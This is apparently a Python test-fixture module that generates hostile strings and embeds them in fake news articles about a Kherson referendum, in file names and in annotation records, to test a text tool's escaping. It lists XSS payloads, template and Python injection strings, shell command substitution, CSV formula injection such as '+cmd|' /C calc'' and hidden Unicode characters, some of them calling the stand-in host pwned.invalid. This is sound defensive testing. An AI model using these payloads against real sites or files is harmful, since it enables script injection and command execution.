"""Hostile texts by what they try, and articles, names, parameters and corrections that carry them.

Each sets `window.pwned`, asks the host `pwned.invalid` for something, or puts an element of its own in the page, if any
of it is ever taken for more than text.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

RUN = "window.pwned=1"
HOST = "http://pwned.invalid"
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\n>".replace("\n", " "),
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="{HOST}/a.js"></script>',
    "<script src=//pwned.invalid/b.js></script>",
    f'<script type="module">{RUN}</script>',
    f"<script>alert(1);{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" alt="',
    f"<img/src/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>no</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<b onmouseover={RUN}>no</b>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} x='",
    f"` onmouseover={RUN} x=`",
    f"<marquee onstart={RUN}>no</marquee>",
    f"<select autofocus onfocus={RUN}>",
    f"<xss style=animation-name:x onanimationstart={RUN}>",
]
ADDRESSES = [
    f'<a href="javascript:{RUN}">pwned</a>',
    f'<a href="JaVaScRiPt&colon;{RUN}">pwned</a>',
    f'<a href="java&#9;script:{RUN}">pwned</a>',
    "<a href='data:text/html,<script>opener.pwned=1</script>'>pwned</a>",
    f"javascript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+pwned",
    "vbscript:pwned",
    f"{HOST}/plain",
    "www.pwned.invalid",
    f'<a href="{HOST}/ping" ping="{HOST}/ping">pwned</a>',
]
DRAWINGS = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>pwned</text></a></svg>',
    f'<svg><use href="{HOST}/a.svg#x"/></svg>',
    f'<svg><image href="{HOST}/a.png"/></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">pwned</maction></math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
]
CLOSERS = [
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</select></option><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    f"</td></tr></table></main></body></html><script>{RUN}</script>",
    f'"}}]}}</script><script>{RUN}</script>',
    f"'];{RUN};//",
    f'";{RUN};//\\',
    f"\u2028{RUN}\u2029",
    "<plaintext>pwned",
    "<!--pwned",
]
LOADERS = [
    '<iframe src="javascript:parent.pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f'<iframe src="{HOST}/frame"></iframe>',
    f'<object data="{HOST}/object"></object>',
    f'<embed src="{HOST}/embed">',
    f'<base href="{HOST}/">',
    f'<link rel="stylesheet" href="{HOST}/a.css">',
    f'<link rel="prefetch" href="{HOST}/prefetch">',
    f'<form action="{HOST}/form"><input name=a><button autofocus>pwned</button></form>',
    f'<img src="{HOST}/pixel.png" srcset="{HOST}/b.png 2x">',
    f'<video poster="{HOST}/poster.png" src="{HOST}/a.mp4" autoplay></video>',
    f'<input type="image" src="{HOST}/input.png">',
    f'<table background="{HOST}/table.png"><tr><td>pwned</table>',
    f'<picture><source srcset="{HOST}/c.png"><img src="{HOST}/d.png"></picture>',
]
# What a policy in a page can't stop: being written as text is all that does.
LEADING_AWAY = [f'<meta http-equiv="refresh" content="0;url={HOST}/away">']
STYLES = [
    f"<style>body{{background:url({HOST}/style.png)}}</style>",
    f"<style>@import '{HOST}/import.css';</style>",
    f'<p style="background:url({HOST}/inline.png)">pwned</p>',
    f'<p style="width:expression({RUN})">pwned</p>',
    f"red;background:url({HOST}/value.png)",
    f'</style><p style="position:fixed;inset:0;background:url({HOST}/over.png)">pwned',
]
TEMPLATES = [
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7*7 }} {{ config.pwned }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}pwned{% endfor %}",
    f"${{{RUN}}}",
    f"#{{{RUN}}} <%= pwned %>",
    "%{customdata} %{pwned}<extra></extra>",
    f'<span style="color:#B2182B" onmouseover={RUN}>■</span> pwned',
    f'<a href="{HOST}/plotly">pwned</a><br><b>pwned</b><sub>pwned</sub>',
    f"<span style='font-size:99px;cursor:url({HOST}/cursor.cur)'>pwned</span>",
]
MARKDOWN = [
    f"[pwned](javascript:{RUN})",
    f"![pwned]({HOST}/markdown.png)",
    f"<{HOST}/auto> [pwned]: {HOST}/ref",
    "`pwned` **pwned** _pwned_ ~~pwned~~ # pwned",
    f"```{{=html}} <script>{RUN}</script> ```",
    f"| pwned | --- | <img src=x onerror={RUN}> |",
    rf"$\href{{javascript:{RUN}}}{{pwned}}$",
    rf"\(\href{{javascript:{RUN}}}{{pwned}}\) \[\require{{html}}\style{{background:url({HOST}/tex.png)}}{{pwned}}\]",
    rf"$$\unicode{{x3c}}img src=x onerror={RUN}\unicode{{x3e}}$$ \begin{{pwned}} \frac{{1}}$",
    '{"application/vnd.jupyter.widget-view+json": {"model_id": "pwned"}}',
    f"{{'text/html': '<script>{RUN}</script>'}}",
]
PROGRAMS = [
    '"); import os; os.system("touch pwned") #',
    "__import__('os').system('touch pwned')",
    "{__import__('os').system('touch pwned')}",
    "'''\"\"\"\\'; open('pwned', 'w') #",
    "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned",
    "%run pwned !touch pwned",
    '=HYPERLINK("http://pwned.invalid/csv","pwned")',
    "+cmd|' /C calc'!A0 pwned",
    "-2+3+cmd|pwned",
    "@SUM(1+1)*pwned",
    "＝1+pwned",
]
CHARACTERS = [
    "\u202epwned\u202c \u2066pwned\u2069 \u200fpwned",
    "p\u200bw\u200cn\u200de\ufeffd",
    "pwned\u0301\u0300\u0327\u0301",
    "pwned \ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16")
    + " \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ufffe\uffff\ue000pwned",
    f"<img\u00a0src=x onerror={RUN}>",
    f"<\u200bscript>{RUN}</script>",
]
GROUPS = {
    "Scripts, in all cases and encodings": SCRIPTS,
    "Handlers of events": HANDLERS,
    "Addresses that run or lead away": ADDRESSES,
    "SVG and MathML": DRAWINGS,
    "What closes an element, a comment or a string": CLOSERS,
    "Elements that load something": LOADERS,
    "Elements that lead the page away": LEADING_AWAY,
    "Styles": STYLES,
    "Templates, and plotly's own markup": TEMPLATES,
    "Markdown, mathematics and widgets": MARKDOWN,
    "Programs and formulas": PROGRAMS,
    "Characters that hide or turn": CHARACTERS,
}
TEXTS = [text for texts in GROUPS.values() for text in texts]
# So many texts share an article or a name: a report of fewer rows takes less time, and shows all of them the same.
TOGETHER = 4
SHARED = [" ".join(TEXTS[place : place + TOGETHER]) for place in range(0, len(TEXTS), TOGETHER)]
# An article in which a text stands in the title, the prose, a quotation, a name and the tags.
ARTICLE = """{hostile}

KYIV, 28 September 2022 - Ukraine condemned the sham referendum in Kherson on 28 September 2022. It named it {hostile}.

“The referendum in Kherson is illegal, {hostile},” President John {hostile} Smith said.

Poland will not recognise the so-called vote in Kherson. Turnout was 97 percent, officials said.

Tags: {hostile}, Kherson
"""
FOLDER = "<b>pwned [pwned](javascript&colon;pwned)"
CODERS = ("Anna ![pwned](x) {{7*7}} $pwned$", "'; pwned() & `touch pwned` #")


def article(hostile: str) -> str:
    """An article that carries a text wherever it can."""
    return ARTICLE.replace("{hostile}", hostile)


def identifier(text: str) -> str:
    """An id as near to a text as ids may be."""
    return text[:250]


def file_name(text: str) -> str:
    """A name of a file as near to a text as names may be."""
    return text.replace("/", "∕").encode()[:200].decode("utf-8", "ignore")


def write_corpus(folder: Path) -> None:
    """Articles whose ids, titles, addresses, file names and words are hostile, and lines that are problems."""
    (folder / FOLDER).mkdir(parents=True)
    records = [
        {"id": identifier(text), "title": text, "url": text, "published": "2022-09-29", "text": article(text)}
        for text in SHARED
    ]
    broken = [{"id": text, "text": 1} for text in TEXTS] + [{"id": f"{text}\n", "text": "No."} for text in TEXTS]
    dates = [{"id": f"date {number}", "published": text, "text": "No."} for number, text in enumerate(TEXTS)]
    lines = [json.dumps(record) for record in [*records, *broken, *dates]] + TEXTS
    (folder / FOLDER / f"{file_name(TEXTS[0])}.jsonl").write_text("\n".join(lines), "utf-8")
    for text in TEXTS:
        (folder / f"{file_name(text)}.txt").write_text("No vote was held, officials said on Monday.\n", "utf-8")
        (folder / FOLDER / f"{file_name(text)}.docx").write_text("no")


def write_corrections(folder: Path) -> None:
    """Files of decisions by two people, each hostile text in them as what a person may write, and broken lines."""
    folder.mkdir(parents=True)
    for coder in CODERS:
        (folder / f"{coder}.codings.jsonl").write_text(decisions(coder), "utf-8")


def decisions(coder: str) -> str:
    """Each hostile text as who says it, to whom and with what cue, in statements added to the first article."""
    text = article(SHARED[0])
    words = "Ukraine condemned the sham referendum"
    start = text.index(words)
    base = {"doc": identifier(SHARED[0]), "sha256": hashlib.sha256(text.encode()).hexdigest(), "coder": coder,
            "time": "2026-01-31T12:00:00Z", "statement_id": None}  # fmt: skip
    coded = {"start": start, "end": start + len(words), "text": words, "actor_type": "person", "regions": ["UA-65"],
             "polarity": -1, "ballot_id": "occupied-2022-referendum", "legal_bases": [], "quoted": False, "value": None}  # fmt: skip
    lines = []
    for number, hostile in enumerate(SHARED):
        said = dict.fromkeys(["actor", "entity", "addressee", "cue"], hostile) | {
            "concept": CONCEPTS[number % len(CONCEPTS)]
        }
        lines.append(json.dumps({**base, "action": "add", "statement": {**coded, **said}, "comment": hostile}))
        lines.append(json.dumps({**base, "action": hostile}))
        lines.append(json.dumps({**base, "action": "reject", "statement_id": hostile}))
    return "\n".join([*lines, *TEXTS]) + "\n"


CONCEPTS = ("condemnation", "non_recognition", "illegality")
